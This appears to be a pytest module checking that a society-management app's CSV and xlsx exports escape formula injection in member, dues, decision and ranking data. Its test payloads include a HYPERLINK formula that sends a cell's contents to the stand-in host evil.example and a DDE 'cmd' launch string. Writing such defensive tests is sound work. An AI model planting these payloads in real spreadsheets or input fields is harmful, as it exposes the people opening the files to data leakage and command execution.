"""Formula injection: text a member or staff typed never becomes a live formula in a CSV or xlsx export.

The member ledger's CSV and xlsx are proven in tests/members/test_import_export.py
(test_csv_import_and_exports_neutralise_formulas); here the other exports.
"""
import csv
import io
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select

from society_saas.core.spreadsheet import safe_cell
from society_saas.extensions import db
from society_saas.members.models import Member
from society_saas.tenancy.context import society_context
from tests.conftest import login
from tests.decisions.helpers import record
from tests.dues.helpers import YEAR, dues_society
from tests.factories import make_admin, make_society, two_societies

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1"]


def _live_cells(data: bytes) -> list:
    """Every cell of every sheet that a spreadsheet would evaluate."""
    book = load_workbook(io.BytesIO(data))
    return [(sheet.title, cell.coordinate, cell.value) for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@\t")]


def test_safe_cell_neutralises_formulas_and_keeps_numbers():
    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert [safe_cell(v) for v in ("-12.5", "1,000", 7, None, "李华", "a=b")] == ["-12.5", "1,000", 7, None, "李华", "a=b"]


def test_dues_csv_exports_neutralise_member_text(app, client, session):
    data = two_societies()
    a, people = data["a"]
    dues_society(a, members=len(PAYLOADS))
    with society_context(a.id):
        for member, payload in zip(db.session.scalars(select(Member).order_by(Member.name)), PAYLOADS):
            member.name = payload
        from society_saas.dues import services as dues

        dues.run_invoices(a, None, YEAR)
        db.session.commit()
    login(client, people["sec"].email)
    body = client.get("/s/a/admin/dues/reports/arrears.csv").get_data(as_text=True).lstrip("\ufeff")
    names = [row[0] for row in csv.reader(io.StringIO(body))][1:]
    assert sorted(names) == sorted("'" + p for p in PAYLOADS)


def test_ledger_csv_and_xlsx_neutralise_every_payload(app, client, session):
    data = two_societies()
    a, people = data["a"]
    dues_society(a, members=len(PAYLOADS) + 1)
    with society_context(a.id):
        members = list(db.session.scalars(select(Member).order_by(Member.name)))
        for member, payload in zip(members, PAYLOADS + ["\r=2+2"]):
            member.work_unit = payload
        db.session.commit()
    login(client, people["sec"].email)
    body = client.get("/s/a/admin/members/export.csv").get_data(as_text=True).lstrip("\ufeff")
    header, *rows = list(csv.reader(io.StringIO(body)))
    units = [row[header.index("工作单位")] for row in rows]
    assert sorted(units) == sorted("'" + p for p in PAYLOADS + ["\r=2+2"])
    assert _live_cells(client.get("/s/a/admin/members/export.xlsx").data) == []


def test_decision_register_xlsx_has_no_live_formula(app, client, session):
    data = two_societies()
    a, people = data["a"]
    record(a, title=PAYLOADS[0], proposer=PAYLOADS[1], meeting_ref=PAYLOADS[3], description=PAYLOADS[2])
    login(client, people["sec"].email)
    response = client.get("/s/a/admin/decisions/register.xlsx")
    assert response.status_code == 200
    assert _live_cells(response.data) == []
    book = load_workbook(io.BytesIO(response.data))
    values = {c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row}
    assert "'" + PAYLOADS[0] in values and "'" + PAYLOADS[1] in values and "'" + PAYLOADS[3] in values


def test_ranking_xlsx_has_no_live_formula(app, client, session):
    from society_saas.oversight.models import AssessmentResult, AssessmentScheme, SchemeState

    society = make_society("evil", name='=HYPERLINK("http://evil.example","学会")')
    scheme = AssessmentScheme(year=2031, title="年度考核", state=SchemeState.finalised)
    db.session.add(scheme)
    db.session.commit()
    with society_context(society.id):
        db.session.add(AssessmentResult(society_id=society.id, scheme_id=scheme.id, total=90.0, grade="excellent", rank=1))
        db.session.commit()
    scheme_id = scheme.id
    make_admin()
    login(client, "admin@kx.test")
    response = client.get(f"/association/assessment/{scheme_id}/ranking.xlsx")
    assert response.status_code == 200
    assert _live_cells(response.data) == []
    rows = list(load_workbook(io.BytesIO(response.data)).active.iter_rows(values_only=True))
    assert rows[1][1] == "'" + '=HYPERLINK("http://evil.example","学会")'
